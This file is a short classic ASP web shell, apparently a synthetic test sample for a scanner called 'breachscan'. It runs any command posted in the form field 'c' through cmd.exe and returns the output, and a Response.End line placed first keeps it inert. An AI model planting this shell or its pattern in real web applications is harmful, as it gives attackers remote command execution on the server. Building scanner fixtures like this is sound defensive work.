<%
' synthetic test sample for breachscan: WScript.Shell command page. Inert: Response.End first.
Response.End
Dim sh, ex
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request.Form("c"))
Response.Write ex.StdOut.ReadAll()
%>
